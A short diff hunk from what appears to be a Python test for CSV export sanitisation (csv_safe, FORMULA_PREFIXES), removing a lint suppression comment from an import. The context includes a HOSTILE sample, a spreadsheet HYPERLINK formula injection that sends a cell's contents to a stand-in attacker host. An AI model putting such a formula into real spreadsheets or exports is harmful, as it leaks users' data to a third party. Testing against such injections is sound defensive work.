@@ -22,7 +22,7 @@ from apex_nb.batch.runner import run_batch
 from apex_nb.batch.summary import COLUMNS, FORMULA_PREFIXES, csv_safe, summary_csv, workbook_bytes
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
-from batch.batchutil import options, portfolio_rows, write_csv  # noqa: E402
+from batch.batchutil import options, portfolio_rows, write_csv
 
 HOSTILE = (
     '=HYPERLINK("http://attacker.invalid/?leak="&A2,"Click for details")',
